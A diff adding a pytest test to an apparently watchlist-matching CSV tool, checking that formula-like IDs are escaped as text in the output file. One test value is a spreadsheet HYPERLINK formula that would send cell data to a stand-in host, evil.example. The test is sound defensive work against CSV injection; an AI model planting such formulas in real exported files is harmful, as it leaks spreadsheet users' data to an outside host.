@@ -118,3 +118,18 @@ def test_non_utf8_input_is_malformed(tmp_path: Path, watchlist: Path) -> None:
         "--watchlist", str(watchlist), "--records", str(records), "--out", str(tmp_path / "o.csv")
     )
     assert isinstance(result.exception, MalformedInput)  # type: ignore[attr-defined]
+
+
+def test_ids_that_look_like_formulas_are_written_as_text(tmp_path: Path) -> None:
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    watchlist = write(
+        tmp_path / "w.csv",
+        f'id,given_names,family_name\n"{formula.replace(chr(34), 2 * chr(34))}",Sergei,Ivanov\n',
+    )
+    records = write(tmp_path / "r.csv", "id,full_name\n@SUM(1+1),Sergei Ivanov\n")
+    out = tmp_path / "hits.csv"
+    result = run("--watchlist", str(watchlist), "--records", str(records), "--out", str(out))
+    assert result.exit_code == 0, result.output  # type: ignore[attr-defined]
+    (row,) = list(csv.DictReader(out.read_text(encoding="utf-8").splitlines()))
+    assert (row["record_id"], row["entry_id"]) == ("'@SUM(1+1)", "'" + formula)
+    assert float(row["score"]) >= 0.85  # the numeric column stays a number
